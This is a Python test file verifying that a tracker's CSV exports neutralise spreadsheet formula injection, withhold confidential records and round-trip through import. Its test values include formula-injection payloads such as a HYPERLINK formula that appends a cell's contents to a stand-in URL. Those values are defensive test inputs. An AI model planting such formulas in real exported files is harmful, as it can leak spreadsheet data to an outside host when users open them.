"""CSV exports are safe to open in a spreadsheet and come back exactly through our import."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engagement.errors import ImportRowsRejected, TransferFileRejected
from engagement.schemas import CsvImportReport
from engagement.tracker import Tracker
from engagement.transfer.csv_io import TRIGGERS, encode, escape, unescape
from tests.conftest import ENGINES, PgServer
from tests.test_transfer_support import (
    DB_SETTINGS,
    Templates,
    cell_values,
    datasets,
    fill,
    fresh_tracker,
)

SYSTEM_COLUMNS = {"id", "created_at", "updated_at", "version"}


def _table(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [
            {k: v for k, v in row.items() if k not in SYSTEM_COLUMNS}
            for row in csv.DictReader(handle)
        ]


# --- formula neutralisation ----------------------------------------------------------------


@given(cell_values())
def test_escaping_is_undone_exactly(value: str) -> None:
    assert unescape(escape(value)) == value


@given(cell_values())
def test_no_written_cell_can_start_a_formula(value: str) -> None:
    written = escape(value)
    assert not written.startswith(TRIGGERS)
    if value.startswith(TRIGGERS):
        assert written == "'" + value


@given(st.lists(st.lists(cell_values(), min_size=1, max_size=4), min_size=1, max_size=4))
def test_whole_files_survive_writing_and_reading(rows: list[list[str]]) -> None:
    header = [f"c{i}" for i in range(len(rows[0]))]
    rows = [row[: len(header)] + [""] * (len(header) - len(row)) for row in rows]
    text = encode([header, *rows])
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == header
    assert [[unescape(cell) for cell in row] for row in read[1:]] == rows
    assert not any(cell.startswith(TRIGGERS) for row in read[1:] for cell in row)


def test_examples_of_neutralised_cells() -> None:
    assert escape('=HYPERLINK("http://evil")') == '\'=HYPERLINK("http://evil")'
    assert escape("-1") == "'-1" and escape("@SUM") == "'@SUM" and escape("\tx") == "'\tx"
    assert escape("'=x") == "''=x" and unescape("''=x") == "'=x"
    assert escape("'quoted") == "'quoted" and unescape("'quoted") == "'quoted"
    assert escape("Ministry") == "Ministry"


# --- exports ----------------------------------------------------------------------------


def test_exported_cells_that_look_like_formulas_are_quoted(
    tracker: Tracker, tmp_path: Path
) -> None:
    tracker.add_stakeholder('=HYPERLINK("http://x?"&A1)', kind="ngo", notes="+7 495 123")
    tracker.add_stakeholder("@home", kind="ngo", aliases=["-minus"])
    tracker.export_csv(tmp_path / "s.csv", kind="stakeholders")
    raw = (tmp_path / "s.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in raw and "'+7 495 123" in raw and "'@home" in raw and "'-minus" in raw
    for row in csv.reader(io.StringIO(raw, newline="")):
        assert not any(cell.startswith(TRIGGERS) for cell in row)
    assert stat.S_IMODE(os.stat(tmp_path / "s.csv").st_mode) == 0o600


def test_interaction_exports_are_capped_by_confidentiality(sample: Tracker, tmp_path: Path) -> None:
    sample.log_interaction(
        "Secret channel", with_=["Russian Red Cross"], when="2025-08-02",
        confidentiality="confidential", summary="strictly between us",
    )  # fmt: skip
    summary = sample.export_csv(tmp_path / "i.csv", kind="interactions")
    rows = _table(tmp_path / "i.csv")
    assert {row["confidentiality"] for row in rows} <= {"public", "internal"}
    assert "strictly between us" not in (tmp_path / "i.csv").read_text(encoding="utf-8-sig")
    assert summary.withheld_interactions >= 1
    sample.export_csv(tmp_path / "all.csv", kind="interactions", confidentiality_max=None)
    assert "Secret channel" in {row["title"] for row in _table(tmp_path / "all.csv")}


# --- round trips through our own import ---------------------------------------------------


@pytest.mark.parametrize("engine", ENGINES)
@DB_SETTINGS
@given(data=datasets())
def test_csv_export_import_export_is_identical(
    engine: str,
    data: dict[str, list[dict[str, object]]],
    templates: Templates,
    pg_server: PgServer | None,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    folder = tmp_path_factory.mktemp("csv")
    with (
        fresh_tracker(engine, templates, pg_server, folder) as source,
        fresh_tracker(engine, templates, pg_server, folder) as target,
    ):
        fill(source, data)
        for kind in ("stakeholders", "interactions"):
            source.export_csv(folder / f"{kind}.csv", kind=kind, confidentiality_max=None)  # type: ignore[arg-type]
            report = target.import_csv(folder / f"{kind}.csv", kind=kind)  # type: ignore[arg-type]
            assert {row.action for row in report.rows} <= {"add"}
            target.export_csv(folder / f"{kind}-2.csv", kind=kind, confidentiality_max=None)  # type: ignore[arg-type]
            assert _table(folder / f"{kind}-2.csv") == _table(folder / f"{kind}.csv")
            again = target.import_csv(folder / f"{kind}.csv", kind=kind)  # type: ignore[arg-type]
            assert {row.action for row in again.rows} <= {"unchanged"}


# --- imports of hand-made files ---------------------------------------------------------


def test_columns_are_mapped_and_rows_reported(tracker: Tracker, tmp_path: Path) -> None:
    tracker.add_stakeholder("Belarus Red Cross", kind="national_society", country="BY")
    (tmp_path / "orgs.csv").write_text(
        "Organisation,Type,Land,Remarks\n"
        "Belarus Red Cross,national_society,BY,changed notes\n"
        "'=Not a formula,ngo,CH,\n"
        "Russian Red Cross,national_society,RU,\n",
        encoding="utf-8",
    )
    mapping = {"Organisation": "name", "Type": "kind", "Land": "country", "Remarks": "notes"}
    dry = tracker.import_csv(
        tmp_path / "orgs.csv", kind="stakeholders", mapping=mapping, dry_run=True
    )
    assert [(r.row, r.action, r.label, r.changes) for r in dry.rows] == [
        (2, "update", "Belarus Red Cross", ["notes"]),
        (3, "add", "=Not a formula", []),
        (4, "add", "Russian Red Cross", []),
    ]
    assert [s.name for s in tracker.list_stakeholders()] == ["Belarus Red Cross"]
    tracker.import_csv(tmp_path / "orgs.csv", kind="stakeholders", mapping=mapping)
    assert tracker.get_stakeholder("=Not a formula").country == "CH"
    assert tracker.get_stakeholder("Belarus Red Cross").notes == "changed notes"


def test_unknown_columns_are_refused_before_anything_is_done(
    tracker: Tracker, tmp_path: Path
) -> None:
    (tmp_path / "x.csv").write_text("name,kind,contry\nA,ngo,RU\n", encoding="utf-8")
    with pytest.raises(TransferFileRejected, match="column 'contry'"):
        tracker.import_csv(tmp_path / "x.csv", kind="stakeholders")
    with pytest.raises(TransferFileRejected, match="no field 'land'"):
        tracker.import_csv(tmp_path / "x.csv", kind="stakeholders", mapping={"contry": "land"})
    report = tracker.import_csv(tmp_path / "x.csv", kind="stakeholders", mapping={"contry": ""})
    assert report.ignored_columns == ["contry"] and report.count("add") == 1


def test_a_bad_row_fails_the_whole_import_and_every_row_is_reported(
    tracker: Tracker, tmp_path: Path
) -> None:
    tracker.add_stakeholder("Russian Red Cross", kind="national_society", aliases=["RRC"])
    (tmp_path / "log.csv").write_text(
        "title,when,with,kind\n"
        "Call,16 May 2025,RRC,call\n"
        "Visit,someday,RRC,visit\n"
        "Meeting,2025-05,Nobody at all,meeting\n"
        "Talk,2025-06-01,RRC,chat\n",
        encoding="utf-8",
    )
    with pytest.raises(ImportRowsRejected, match=r"row 3 \(Visit\).*row 4 .*row 5") as caught:
        tracker.import_csv(tmp_path / "log.csv", kind="interactions")
    report = caught.value.report
    assert isinstance(report, CsvImportReport)
    assert [r.action for r in report.rows] == ["add", "error", "error", "error"]
    assert "Nobody at all" in report.rows[2].problem
    assert tracker.history("Russian Red Cross") == []


def test_interactions_are_updated_by_uid_keeping_absent_columns(
    tracker: Tracker, tmp_path: Path
) -> None:
    tracker.add_stakeholder("Russian Red Cross", kind="national_society")
    logged = tracker.log_interaction(
        "Call", with_=["Russian Red Cross"], when="2025-05-16", summary="keep me", uid="u-1"
    )
    (tmp_path / "u.csv").write_text("uid,title,tags\nu-1,Call again,a;b\n", encoding="utf-8")
    report = tracker.import_csv(tmp_path / "u.csv", kind="interactions", list_separator=";")
    assert (report.rows[0].action, report.rows[0].changes) == ("update", ["tags", "title"])
    changed = tracker.get_interaction(logged.id)
    assert (changed.title, changed.summary, changed.tags) == ("Call again", "keep me", ["a", "b"])
